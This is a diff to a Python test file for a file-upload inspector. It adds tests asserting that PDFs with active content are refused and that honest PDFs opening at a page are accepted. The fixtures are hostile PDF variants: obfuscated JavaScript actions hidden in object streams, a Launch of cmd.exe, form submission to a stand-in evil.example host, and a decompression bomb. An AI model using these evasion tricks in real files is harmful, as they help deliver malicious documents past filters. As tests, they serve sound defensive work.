@@ -1,5 +1,6 @@
 import io
 import random
+import zlib
 from contextlib import suppress
 from zoneinfo import ZoneInfo
 
@@ -107,6 +108,56 @@ def test_a_hundred_megapixel_bomb_is_refused_without_decoding_it():
 
 def test_pdf_with_a_program_is_refused():
     assert reason(hostile.PDF.replace(b"/Pages", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Pages")) == "program"
+
+
+def packed(objects: bytes, more: bytes = b"/Filter/FlateDecode", squeeze=zlib.compress) -> bytes:
+    """A PDF with objects in an object stream."""
+    body = squeeze(objects)
+    head = b"%%PDF-1.7\n5 0 obj<</Type/ObjStm/N 1/First 4/Length %d%s>>stream\n" % (len(body), more)
+    return head + body + b"\nendstream endobj\n" + hostile.PDF[9:]
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        hostile.PDF.replace(b"/Pages", b"/OpenAction<</S/JavaScr#69pt/JS(app.alert(1))>>/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/AA<</O<</S/#4a#61vaScript>>>>/Pages"),
+        packed(b"7 0 <</S/JavaScript/JS(app.alert(1))>>"),
+        packed(b"7 0 <</S/JavaScript>>").replace(b"ObjStm", b"Obj#53tm"),
+        packed(b"7 0 <</S/JavaScript>>", b"/Filter[/ASCIIHexDecode]", lambda text: text.hex().encode()),
+        hostile.PDF.replace(b"/Pages", b"/Names<</EmbeddedFiles 4 0 R>>/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/A<</S/SubmitForm/F(http://evil.example)>>/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/A<</S/Launch/F(cmd.exe)>>/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/OpenAction<</S/URI/URI(http://evil.example)>>/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/OpenAction 9 0 R/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/AcroForm<</XFA[(a)4 0 R]>>/Pages"),
+        packed(bytes(40_000_000)),
+    ],
+    ids=["hex", "all hex", "stream", "hex stream", "other filter", "files", "submit", "launch", "address", "reference",
+         "form", "bomb"],
+)  # fmt: skip
+def test_a_pdf_that_does_something_when_opened_is_refused_however_it_is_written(data):
+    assert reason(data) == "program"
+
+
+def test_a_locked_pdf_is_refused_since_nobody_can_look_into_it():
+    assert reason(hostile.PDF.replace(b"/Root", b"/Encrypt 9 0 R/Root")) == "locked"
+    assert reason(packed(b"7 0 <<>>", squeeze=lambda _text: b"noise")) == "unreadable"
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        hostile.PDF.replace(b"/Pages", b"/OpenAction[3 0 R/Fit]/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/Pages"),
+        hostile.PDF.replace(b"/Pages", b"/OpenAction 1 0 R/Pages").replace(b"obj<<", b"obj<</S/GoTo"),
+        packed(b"7 0 <</S/GoTo/D[3 0 R/Fit]>>").replace(b"/Pages", b"/OpenAction 7 0 R/Pages"),
+        packed(b"7 0 <</S/URI/URI(https://kota.example)>>"),
+    ],
+    ids=["place", "going there", "reference", "packed reference", "link"],
+)
+def test_an_honest_pdf_that_opens_at_a_page_is_taken(data):
+    assert inspect(data, ALL).content_type == "application/pdf"
 
 
 @settings(max_examples=300, deadline=None)
